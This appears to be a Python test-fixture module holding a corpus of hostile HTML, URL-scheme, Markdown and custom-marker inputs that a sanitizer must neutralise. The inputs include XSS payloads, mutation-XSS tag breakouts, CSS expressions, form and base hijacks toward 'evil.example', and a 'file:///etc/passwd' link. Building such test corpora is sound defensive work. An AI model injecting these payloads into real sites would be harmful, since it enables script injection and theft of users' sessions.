"""Hostile inputs, each of which must render harmlessly or be rejected."""

# ruff: noqa: E501

HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin"]
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript:123", " javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)", "javascript\\:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=",
    "feed:javascript:alert(1)", "view-source:x", "blob:x", "file:///etc/passwd", "about:blank",
    "//evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "https:evil",
    "jar:x!/", "livescript:x", "mocha:x", "ws://x", "x-javascript:alert(1)", "%6aavascript:alert(1)",
]  # fmt: skip
LINKS = [
    form.format(scheme)
    for scheme in SCHEMES
    for form in ("[x]({})", "[x](<{}>)", "<{}>", '<a href="{}">x</a>', "[x][y]\n\n[y]: {}")
]
TAGS = [
    *[f"<img src=x {name}=alert(1)>" for name in HANDLERS],
    *[f"<p {name}='alert(1)'>x</p>" for name in HANDLERS],
    *[f"<details open {name}=alert(1)>x</details>" for name in HANDLERS],
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<scr<script>ipt>alert(1)",
    "<style>*{background:url(//evil)}</style>", "<title>x</title>", "<noscript><p title=\"</noscript>"
    "<img src=x onerror=alert(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=1>\">",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\">", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<svg onload=alert(1)>", "<svg><style>"
    "<img src=x onerror=alert(1)></style></svg>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">", "<math href='javascript:alert(1)'>x</math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form action=//evil><input name=csrfmiddlewaretoken></form>", "<button formaction=//evil>x</button>",
    "<object data=//evil></object>", "<embed src=//evil>", "<applet code=x></applet>",
    "<base href=//evil>", "<link rel=stylesheet href=//evil>", "<meta http-equiv=refresh content=0>",
    "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
    "<template><script>alert(1)</script></template>", "<slot name=x></slot>", "<dialog open>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>", "<isindex action=javascript:alert(1)>",
    "<p style='background:url(//evil)'>x</p>", "<p style=\"x:expression(alert(1))\">x</p>",
    "<p id=location name=cookie class=mention>x</p>", "<a name=x id=y class=z target=_blank>x</a>",
    "<a href='https://a.example' rel=opener target=_blank>x</a>", "<a href=https://x ping=//evil>x</a>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>x</script>", "<!DOCTYPE html><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<<script>alert(1)//<</script>",
    "<img src=\"x`<script>alert(1)</script>\"`>", "<img \"\"\"><script>alert(1)</script>\">",
    "<a title=\"x<img src=x onerror=alert(1)>\">x</a>", "<p title='\"><script>alert(1)</script>'>x</p>",
    "</p></div></article><script>alert(1)</script>", "<plaintext>", "<listing><img src=x onerror=1>",
    "<noembed><img src=x onerror=alert(1)></noembed>", "<noframes><img src=x onerror=1></noframes>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><style></table><img src=x onerror=alert(1)>",
    "<div data-controller=x hx-get=/ onclick=alert(1)>x</div>", "<custom-tag onclick=alert(1)>x",
]  # fmt: skip
MARKDOWN = [
    "![x](javascript:alert(1))", "![x](data:image/svg+xml,x)", "![x\" onerror=\"alert(1)](images/a)",
    "[x](https://a.example \"\\\" onclick=alert(1) \")", "[x](https://a.example '\"><script>1</script>')",
    "[<img src=x onerror=alert(1)>](https://a.example)", "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```",
    "``` onclick=alert(1)\nx\n```", "```python class=\"x\" onload=1\nx\n```", "    <script>1</script>",
    "# <script>alert(1)</script>", "# x {onclick=alert(1)}", "[^<script>]\n\n[^<script>]: x",
    "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x", "!!! note\" onclick=\"alert(1)\n    x",
    "!!! note \"<script>alert(1)</script>\"\n    x", "!!! anchor mention\n    x",
    "|<script>|b|\n|-|-|\n|<img src=x onerror=1>|d|", "term\n:   <script>alert(1)</script>",
    "$\\text{<script>alert(1)</script>}$", "$\\href{javascript:alert(1)}{x}$", "$x<img src=x>$",
    "$\\class{a\" onclick=\"alert(1)}{x}$", "$\\style{color:red}{x}$", "<a title=\"$x$\">y</a>",
    "<a title='$\"><script>alert(1)</script>$'>y</a>", "<a href=\"`\" onclick=alert(1) \"`\">x</a>",
    "\ufdd0i0\ufdd1 $x$", "\ufdd0b0\ufdd1\n\n```\n<script>\n```", "\x02wzxhzdk:0\x03<b>", "\x02amp\x03",
    "@<script>alert(1)</script>", "@alice\"onclick=1", ">! <script>alert(1)</script>",
    "https://a.example/\"onmouseover=alert(1)", "https://a.example/<script>", "http://a'onclick=1",
    "\ud800<script>\udfff", "\x00<scr\x00ipt>alert(1)</script>", "<scr\u00adipt>", "&lt;script&gt;",
    "&#60;script&#62;alert(1)", "\\<script>alert(1)\\</script>", "*<b onclick=1>*", "**<i**>",
    "[a]: javascript:alert(1)\n\n[a]", "[lesson](lesson:\"onclick=1)", "[l](lesson:../../evil)",
]  # fmt: skip
MARKERS = [
    "[[term:a|<script>alert(1)</script>]]", "[[term:a|\" onclick=alert(1) x=\"]]", "[[term:\"onclick]]",
    "[[out:<script>:1]]", "[[sample:<script>]]", "[[sample:a\"></slot><script>]]", "[[term:a|`<img src=x>`]]",
    "<slot name=\"sample:a\"></slot>", "<input type=text autofocus onfocus=alert(1)>", "<label for=x>x</label>",
    "=== \"<script>alert(1)</script>\"\n    x", "=== \"\\\" onclick=alert(1) \"\"\n    x", "> [!NOTE] <script>1</script>",
    "> [!NOTE\" onclick=1]\n> x", "- [x] <script>alert(1)</script>", "## a {#x\" onclick=\"1}", "## a {#location}",
    "~~<script>alert(1)</script>~~", "<dfn onclick=alert(1) class=term title=x>x</dfn>", "[x](#\"onclick=1)",
    "<details>\n\n<script>alert(1)</script>\n\n</details>", "<div class=\"placed tabs\" style=x>x</div>",
    "<x-block><script>alert(1)</script></x-block>", "| <script> |\n|---|\n| [[term:a|</td><script>]] |",
]  # fmt: skip
CORPUS = LINKS + TAGS + MARKDOWN + MARKERS
